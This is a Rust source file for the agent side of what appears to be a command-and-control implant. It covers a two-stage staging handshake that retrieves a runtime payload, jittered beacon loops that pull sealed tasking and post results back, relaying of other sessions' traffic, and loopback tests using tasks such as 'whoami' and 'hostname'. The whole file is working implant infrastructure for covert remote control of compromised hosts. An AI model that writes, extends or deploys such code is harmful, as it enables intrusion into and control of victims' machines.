//! Agent-side session loop.
//!
//! Ties the layers together for one implant: staging over a transport,
//! then beacon cycles that pull queued tasking, hand reassembled messages
//! to the dispatcher and post results back. Foreign traffic observed on
//! the shared channel is handed to the relay queue untouched.

use std::sync::Arc;
use std::time::Duration;

use tokio::sync::mpsc;
use tracing::{debug, info, warn};

use crate::handshake::{AgentHandshake, HostFingerprint};
use crate::router::{RelayFrame, SessionRouter};
use crate::routing::{self, ParsedPacket};
use crate::session::{NonceMode, SessionCrypto};
use crate::tasking::{self, TaskPacket};
use crate::transport::Transport;
use crate::types::{CourierError, MessageKind, PreSharedKey, Result, RuntimeKind, SessionId};

/// Raw bytes per task fragment before transport encoding.
const DEFAULT_FRAGMENT_LEN: usize = 64 * 1024;

/// Foreign packets the relay queue holds before dropping.
const DEFAULT_RELAY_DEPTH: usize = 32;

/// Pause between beacon cycles.
const DEFAULT_BEACON_INTERVAL: Duration = Duration::from_secs(60);

/// Fraction of the interval each pause may deviate by.
const DEFAULT_BEACON_JITTER: f64 = 0.2;

/// External task-execution pipeline.
///
/// Receives each reassembled message; an `Ok(Some(bytes))` answer is
/// framed, sealed and posted back as that task's result.
#[async_trait::async_trait]
pub trait TaskDispatch: Send + Sync {
    /// Handle one reassembled message.
    async fn dispatch(
        &self,
        kind: u16,
        correlation_id: u16,
        payload: Vec<u8>,
    ) -> Result<Option<Vec<u8>>>;
}

/// Tunables for one agent session.
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// Runtime family reported in routing headers.
    pub runtime: RuntimeKind,
    /// Payload nonce discipline after staging.
    pub nonce_mode: NonceMode,
    /// Raw bytes per task fragment before transport encoding.
    pub max_fragment_len: usize,
    /// Depth of the foreign-traffic relay queue.
    pub relay_depth: usize,
    /// Pause between beacon cycles in [`run`](AgentSession::run).
    pub beacon_interval: Duration,
    /// Fraction of the interval each pause may deviate by, `0.0..=1.0`.
    pub beacon_jitter: f64,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self {
            runtime: RuntimeKind::Native,
            nonce_mode: NonceMode::Random,
            max_fragment_len: DEFAULT_FRAGMENT_LEN,
            relay_depth: DEFAULT_RELAY_DEPTH,
            beacon_interval: DEFAULT_BEACON_INTERVAL,
            beacon_jitter: DEFAULT_BEACON_JITTER,
        }
    }
}

/// What one beacon cycle produced.
#[derive(Debug, Default)]
pub struct PollReport {
    /// Messages reassembled and handed to the dispatcher.
    pub dispatched: usize,
    /// Result messages posted back to the controller.
    pub results_posted: usize,
    /// Foreign packets forwarded for relay.
    pub relayed: usize,
    /// Foreign packets dropped at a full or closed relay queue.
    pub dropped: usize,
    /// Local payloads dropped because they failed to open or frame.
    pub rejected: usize,
}

/// One staged agent session over a transport.
///
/// Created by [`establish`](AgentSession::establish), which runs the
/// whole staging exchange; afterwards [`poll`](AgentSession::poll) drives
/// the tasking cycle. All sealing state lives here, so the session is
/// owned by a single loop and never shared.
pub struct AgentSession {
    session_id: SessionId,
    psk: PreSharedKey,
    runtime: RuntimeKind,
    crypto: SessionCrypto,
    router: SessionRouter,
    transport: Arc<dyn Transport>,
    runtime_payload: Vec<u8>,
    max_fragment_len: usize,
    beacon_interval: Duration,
    beacon_jitter: f64,
    next_correlation: u16,
}

impl AgentSession {
    /// Run the full staging exchange over `transport`.
    ///
    /// # Arguments
    /// * `psk` - Pre-shared key from the connection profile
    /// * `transport` - Channel to the controller
    /// * `fingerprint` - Host details reported during confirmation
    /// * `config` - Session tunables
    ///
    /// # Returns
    /// The established session and the receiver carrying foreign traffic
    /// queued for relay
    pub async fn establish(
        psk: PreSharedKey,
        transport: Arc<dyn Transport>,
        fingerprint: &HostFingerprint,
        config: AgentConfig,
    ) -> Result<(Self, mpsc::Receiver<RelayFrame>)> {
        let mut handshake = AgentHandshake::new(psk.clone(), config.runtime);

        let request = handshake.stage_one_request()?;
        let response = transport.exchange(request).await?;
        let packet = sole_packet(&psk, &response)?;
        handshake.absorb_stage_one_response(&packet)?;

        let confirm = handshake.stage_two_request(fingerprint)?;
        let response = transport.exchange(confirm).await?;
        let packet = sole_packet(&psk, &response)?;
        let runtime_payload = handshake.absorb_stage_two_response(&packet)?;

        let (session_id, crypto) = handshake.into_session(config.nonce_mode)?;
        let (relay_tx, relay_rx) = mpsc::channel(config.relay_depth.max(1));
        let router = SessionRouter::new(session_id, relay_tx);

        info!(session = %session_id, "agent session established");
        let session = Self {
            session_id,
            psk,
            runtime: config.runtime,
            crypto,
            router,
            transport,
            runtime_payload,
            max_fragment_len: config.max_fragment_len,
            beacon_interval: config.beacon_interval,
            beacon_jitter: config.beacon_jitter,
            next_correlation: 1,
        };
        Ok((session, relay_rx))
    }

    /// Controller-assigned session ID.
    pub fn session_id(&self) -> SessionId {
        self.session_id
    }

    /// Payload the controller released when staging completed.
    pub fn runtime_payload(&self) -> &[u8] {
        &self.runtime_payload
    }

    /// One beacon cycle: ask for queued tasking, dispatch what came back,
    /// post results.
    pub async fn poll(&mut self, dispatch: &dyn TaskDispatch) -> Result<PollReport> {
        let mut report = PollReport::default();

        // Empty plaintext, but sealed: the controller only answers polls
        // that verify under the session key
        let request = self.build_packet_sealed(MessageKind::TaskingRequest, b"")?;
        let response = self.transport.exchange(request).await?;
        if response.is_empty() {
            debug!(session = %self.session_id, "nothing queued");
            return Ok(report);
        }

        let batch = routing::parse(self.psk.as_bytes(), &response);
        let outcome = self.router.route(batch);
        report.relayed = outcome.relayed;
        report.dropped = outcome.dropped;

        let records = self.open_local(&outcome.local, &mut report);
        for (kind, correlation_id, group) in group_by_correlation(records) {
            let message = match tasking::reassemble(&group) {
                Ok(message) => message,
                Err(e) => {
                    warn!(correlation = correlation_id, error = %e, "discarding undecodable message");
                    report.rejected += 1;
                    continue;
                }
            };

            report.dispatched += 1;
            if let Some(result) = dispatch.dispatch(kind, correlation_id, message).await? {
                self.post_result(kind, correlation_id, &result).await?;
                report.results_posted += 1;
            }
        }

        Ok(report)
    }

    /// Beacon on the configured interval until `shutdown` fires.
    ///
    /// Each cycle sleeps a jittered interval, then runs one
    /// [`poll`](AgentSession::poll). A failed exchange is logged and the
    /// next cycle retries; any other error ends the loop. Dropping every
    /// shutdown sender also stops the loop.
    pub async fn run(
        &mut self,
        dispatch: &dyn TaskDispatch,
        mut shutdown: mpsc::Receiver<()>,
    ) -> Result<()> {
        loop {
            let pause = jittered(self.beacon_interval, self.beacon_jitter);
            tokio::select! {
                _ = shutdown.recv() => {
                    info!(session = %self.session_id, "beacon loop stopping");
                    return Ok(());
                }
                _ = tokio::time::sleep(pause) => {}
            }

            match self.poll(dispatch).await {
                Ok(report) => {
                    debug!(
                        session = %self.session_id,
                        dispatched = report.dispatched,
                        relayed = report.relayed,
                        "beacon cycle done"
                    );
                }
                Err(CourierError::TransportFailed(e)) => {
                    warn!(session = %self.session_id, error = %e, "beacon failed, retrying next cycle");
                }
                Err(e) => return Err(e),
            }
        }
    }

    /// Post an agent-originated message outside the tasking cycle.
    ///
    /// # Returns
    /// The correlation ID assigned to the message
    pub async fn post(&mut self, kind: u16, data: &[u8]) -> Result<u16> {
        let correlation_id = self.next_correlation;
        self.next_correlation = match self.next_correlation.wrapping_add(1) {
            0 => 1,
            next => next,
        };
        self.post_result(kind, correlation_id, data).await?;
        Ok(correlation_id)
    }

    /// Open every local payload and collect the task records inside.
    fn open_local(&self, local: &[ParsedPacket], report: &mut PollReport) -> Vec<TaskPacket> {
        let mut records = Vec::new();
        for packet in local {
            let plaintext = match self.crypto.open_payload(&packet.payload) {
                Ok(plaintext) => plaintext,
                Err(e) => {
                    warn!(session = %self.session_id, error = %e, "dropping unopenable payload");
                    report.rejected += 1;
                    continue;
                }
            };
            match tasking::decode_stream(&plaintext) {
                Ok((decoded, anomaly)) => {
                    if anomaly.is_some() {
                        report.rejected += 1;
                    }
                    records.extend(decoded);
                }
                Err(e) => {
                    warn!(session = %self.session_id, error = %e, "dropping unframeable payload");
                    report.rejected += 1;
                }
            }
        }
        records
    }

    /// Frame, seal and transmit one result message.
    async fn post_result(&mut self, kind: u16, correlation_id: u16, data: &[u8]) -> Result<()> {
        let framed = tasking::encode_fragmented(kind, correlation_id, data, self.max_fragment_len)?;
        let packet = self.build_packet_sealed(MessageKind::ResultPost, &framed)?;
        let response = self.transport.exchange(packet).await?;
        if !response.is_empty() {
            debug!(
                session = %self.session_id,
                bytes = response.len(),
                "ignoring bytes returned to a result post"
            );
        }
        Ok(())
    }

    /// Build a routing packet whose payload is `plaintext` sealed under
    /// the session key.
    fn build_packet_sealed(&mut self, kind: MessageKind, plaintext: &[u8]) -> Result<Vec<u8>> {
        let sealed = self.crypto.seal_payload(plaintext)?;
        self.build_packet(kind, &sealed)
    }

    fn build_packet(&self, kind: MessageKind, payload: &[u8]) -> Result<Vec<u8>> {
        routing::build(
            self.psk.as_bytes(),
            self.session_id,
            self.runtime,
            kind,
            0,
            payload,
        )
    }
}

/// Group records by correlation ID, keeping first-seen order between
/// groups and arrival order inside each.
fn group_by_correlation(records: Vec<TaskPacket>) -> Vec<(u16, u16, Vec<TaskPacket>)> {
    let mut groups: Vec<(u16, u16, Vec<TaskPacket>)> = Vec::new();
    for record in records {
        match groups
            .iter_mut()
            .find(|(_, correlation, _)| *correlation == record.correlation_id)
        {
            Some((_, _, group)) => group.push(record),
            None => groups.push((record.kind, record.correlation_id, vec![record])),
        }
    }
    groups
}

/// Randomize a beacon pause within `interval * (1 +/- jitter)`.
fn jittered(interval: Duration, jitter: f64) -> Duration {
    if jitter <= 0.0 {
        return interval;
    }
    use rand::Rng;
    let spread = interval.as_secs_f64() * jitter.min(1.0);
    let low = (interval.as_secs_f64() - spread).max(0.0);
    let high = interval.as_secs_f64() + spread;
    Duration::from_secs_f64(rand::thread_rng().gen_range(low..=high))
}

/// Expect exactly one parsed packet in a staging response.
fn sole_packet(psk: &PreSharedKey, buffer: &[u8]) -> Result<ParsedPacket> {
    let mut packets = routing::parse(psk.as_bytes(), buffer);
    if packets.len() != 1 {
        return Err(CourierError::HandshakeFailure(format!(
            "expected one staging packet, parsed {}",
            packets.len()
        )));
    }
    Ok(packets.remove(0))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::handshake::ControllerHandshake;
    use crate::session;
    use crate::transport::{LoopbackPeer, LoopbackTransport};
    use crate::types::KEY_SIZE;
    use tokio::task::JoinHandle;

    /// Records every dispatched message; answers tasks of `echo_kind`
    /// with the payload reversed.
    struct EchoDispatch {
        echo_kind: u16,
        seen: tokio::sync::Mutex<Vec<(u16, u16, Vec<u8>)>>,
    }

    impl EchoDispatch {
        fn new(echo_kind: u16) -> Self {
            Self {
                echo_kind,
                seen: tokio::sync::Mutex::new(Vec::new()),
            }
        }
    }

    #[async_trait::async_trait]
    impl TaskDispatch for EchoDispatch {
        async fn dispatch(
            &self,
            kind: u16,
            correlation_id: u16,
            payload: Vec<u8>,
        ) -> Result<Option<Vec<u8>>> {
            let mut seen = self.seen.lock().await;
            seen.push((kind, correlation_id, payload.clone()));
            if kind == self.echo_kind {
                Ok(Some(payload.into_iter().rev().collect()))
            } else {
                Ok(None)
            }
        }
    }

    fn test_psk() -> PreSharedKey {
        PreSharedKey::new([0x42; KEY_SIZE])
    }

    fn test_fingerprint() -> HostFingerprint {
        HostFingerprint::local("agent-tests")
    }

    /// Serves staging, then runs `tasking_turns` beacon answers, then
    /// opens every result post it receives.
    fn spawn_controller(
        mut peer: LoopbackPeer,
        psk: PreSharedKey,
        tasking_turns: Vec<Vec<Vec<u8>>>,
        extra_packets: Vec<Vec<u8>>,
    ) -> JoinHandle<Vec<(u16, u16, Vec<u8>)>> {
        tokio::spawn(async move {
            let controller = ControllerHandshake::new(psk.clone());

            let request = peer.requests.recv().await.unwrap();
            let parsed = routing::parse(psk.as_bytes(), &request);
            let response = controller.respond_stage_one(&parsed[0]).await.unwrap();
            peer.responses.send(response).await.unwrap();

            let confirm = peer.requests.recv().await.unwrap();
            let parsed = routing::parse(psk.as_bytes(), &confirm);
            let (_, response) = controller
                .respond_stage_two(&parsed[0], b"RUNTIME")
                .await
                .unwrap();
            peer.responses.send(response).await.unwrap();

            let mut results = Vec::new();
            let mut turns = tasking_turns.into_iter();
            while let Some(request) = peer.requests.recv().await {
                let parsed = routing::parse(psk.as_bytes(), &request);
                if parsed.is_empty() {
                    break;
                }
                let packet = &parsed[0];
                let session_id = packet.header.session_id;
                let key = controller.sessions().session_key(&session_id).await.unwrap();

                match packet.header.kind {
                    MessageKind::TaskingRequest => {
                        // The poll payload must open under the session key
                        session::open_message(key.as_bytes(), &packet.payload).unwrap();

                        let mut buffer = Vec::new();
                        for framed in turns.next().unwrap_or_default() {
                            let sealed = session::seal_message(key.as_bytes(), &framed);
                            let reply = routing::build(
                                psk.as_bytes(),
                                session_id,
                                RuntimeKind::None,
                                MessageKind::ServerResponse,
                                0,
                                &sealed,
                            )
                            .unwrap();
                            buffer.extend_from_slice(&reply);
                        }
                        buffer.extend(extra_packets.iter().flatten().copied());
                        peer.responses.send(buffer).await.unwrap();
                    }
                    MessageKind::ResultPost => {
                        let plaintext =
                            session::open_message(key.as_bytes(), &packet.payload).unwrap();
                        let (records, anomaly) = tasking::decode_stream(&plaintext).unwrap();
                        assert!(anomaly.is_none());
                        let kind = records[0].kind;
                        let correlation = records[0].correlation_id;
                        let message = tasking::reassemble(&records).unwrap();
                        results.push((kind, correlation, message));
                        peer.responses.send(Vec::new()).await.unwrap();
                    }
                    other => panic!("unexpected message kind {:?}", other),
                }
            }
            results
        })
    }

    #[tokio::test]
    async fn test_establish_over_loopback() {
        let psk = test_psk();
        let (transport, peer) = LoopbackTransport::pair(4);
        let controller = spawn_controller(peer, psk.clone(), Vec::new(), Vec::new());

        let (session, _relay) = AgentSession::establish(
            psk,
            Arc::new(transport),
            &test_fingerprint(),
            AgentConfig::default(),
        )
        .await
        .unwrap();

        assert!(!session.session_id().is_placeholder());
        assert_eq!(session.runtime_payload(), b"RUNTIME");
        drop(session);
        controller.await.unwrap();
    }

    #[tokio::test]
    async fn test_poll_dispatches_and_posts_results() {
        let psk = test_psk();
        let (transport, peer) = LoopbackTransport::pair(4);

        // One beacon turn queueing two messages, the second fragmented
        let turn = vec![
            tasking::encode(40, 1, b"whoami").unwrap(),
            tasking::encode_fragmented(40, 2, b"a longer task payload", 8).unwrap(),
        ];
        let controller = spawn_controller(peer, psk.clone(), vec![turn], Vec::new());

        let (mut session, _relay) = AgentSession::establish(
            psk,
            Arc::new(transport),
            &test_fingerprint(),
            AgentConfig::default(),
        )
        .await
        .unwrap();

        let dispatch = EchoDispatch::new(40);
        let report = session.poll(&dispatch).await.unwrap();
        assert_eq!(report.dispatched, 2);
        assert_eq!(report.results_posted, 2);
        assert_eq!(report.rejected, 0);

        let seen = dispatch.seen.lock().await;
        assert_eq!(seen[0], (40, 1, b"whoami".to_vec()));
        assert_eq!(seen[1], (40, 2, b"a longer task payload".to_vec()));
        drop(seen);

        drop(session);
        let results = controller.await.unwrap();
        assert_eq!(results.len(), 2);
        assert_eq!(results[0].1, 1);
        assert_eq!(results[0].2, b"imaohw");
        assert_eq!(results[1].1, 2);
        assert_eq!(results[1].2, b"daolyap ksat regnol a");
    }

    #[tokio::test]
    async fn test_poll_relays_foreign_packets() {
        let psk = test_psk();
        let (transport, peer) = LoopbackTransport::pair(4);

        // A packet for some other session rides along with the beacon
        // answer; its payload is sealed under a key this agent never sees
        let foreign = routing::build(
            psk.as_bytes(),
            SessionId::new(*b"ELSEWHRE"),
            RuntimeKind::Script,
            MessageKind::ResultPost,
            0,
            &[0xEE; 40],
        )
        .unwrap();
        let controller = spawn_controller(
            peer,
            psk.clone(),
            vec![Vec::new()],
            vec![foreign.clone()],
        );

        let (mut session, mut relay) = AgentSession::establish(
            psk,
            Arc::new(transport),
            &test_fingerprint(),
            AgentConfig::default(),
        )
        .await
        .unwrap();

        let dispatch = EchoDispatch::new(40);
        let report = session.poll(&dispatch).await.unwrap();
        assert_eq!(report.dispatched, 0);
        assert_eq!(report.relayed, 1);
        assert_eq!(report.dropped, 0);

        let frame = relay.try_recv().unwrap();
        assert_eq!(frame.session_id.as_bytes(), b"ELSEWHRE");
        assert_eq!(frame.bytes, foreign);

        drop(session);
        controller.await.unwrap();
    }

    #[tokio::test]
    async fn test_post_assigns_correlations() {
        let psk = test_psk();
        let (transport, peer) = LoopbackTransport::pair(4);
        let controller = spawn_controller(peer, psk.clone(), Vec::new(), Vec::new());

        let (mut session, _relay) = AgentSession::establish(
            psk,
            Arc::new(transport),
            &test_fingerprint(),
            AgentConfig::default(),
        )
        .await
        .unwrap();

        let first = session.post(7, b"checkpoint alpha").await.unwrap();
        let second = session.post(7, b"checkpoint beta").await.unwrap();
        assert_ne!(first, second);

        drop(session);
        let results = controller.await.unwrap();
        assert_eq!(results.len(), 2);
        assert_eq!(results[0], (7, first, b"checkpoint alpha".to_vec()));
        assert_eq!(results[1], (7, second, b"checkpoint beta".to_vec()));
    }

    #[tokio::test]
    async fn test_run_beacons_until_shutdown() {
        let psk = test_psk();
        let (transport, peer) = LoopbackTransport::pair(4);

        let turn = vec![tasking::encode(40, 1, b"hostname").unwrap()];
        let controller = spawn_controller(peer, psk.clone(), vec![turn], Vec::new());

        let config = AgentConfig {
            beacon_interval: Duration::from_millis(1),
            beacon_jitter: 0.0,
            ..AgentConfig::default()
        };
        let (mut session, _relay) =
            AgentSession::establish(psk, Arc::new(transport), &test_fingerprint(), config)
                .await
                .unwrap();

        let dispatch = Arc::new(EchoDispatch::new(40));
        let runner = Arc::clone(&dispatch);
        let (stop_tx, stop_rx) = mpsc::channel(1);
        let beacons = tokio::spawn(async move { session.run(runner.as_ref(), stop_rx).await });

        // Wait for a beacon cycle to pull the queued task
        let mut waited = 0;
        loop {
            if !dispatch.seen.lock().await.is_empty() {
                break;
            }
            waited += 1;
            assert!(waited < 200, "beacon never dispatched the queued task");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }

        stop_tx.send(()).await.unwrap();
        beacons.await.unwrap().unwrap();

        let results = controller.await.unwrap();
        assert_eq!(results.len(), 1);
        assert_eq!(results[0], (40, 1, b"emantsoh".to_vec()));
    }

    #[test]
    fn test_group_by_correlation_keeps_order() {
        let record = |correlation: u16, data: &[u8]| TaskPacket {
            kind: 40,
            total_fragments: 2,
            fragment_index: 1,
            correlation_id: correlation,
            data: data.to_vec(),
        };

        let groups = group_by_correlation(vec![
            record(5, b"a"),
            record(9, b"b"),
            record(5, b"c"),
        ]);

        assert_eq!(groups.len(), 2);
        assert_eq!(groups[0].1, 5);
        assert_eq!(groups[0].2.len(), 2);
        assert_eq!(groups[1].1, 9);
        assert_eq!(groups[1].2.len(), 1);
    }

    #[test]
    fn test_jittered_stays_in_band() {
        let interval = Duration::from_secs(60);
        for _ in 0..64 {
            let pause = jittered(interval, 0.2);
            assert!(pause >= Duration::from_secs(48));
            assert!(pause <= Duration::from_secs(72));
        }
        assert_eq!(jittered(interval, 0.0), interval);
    }
}
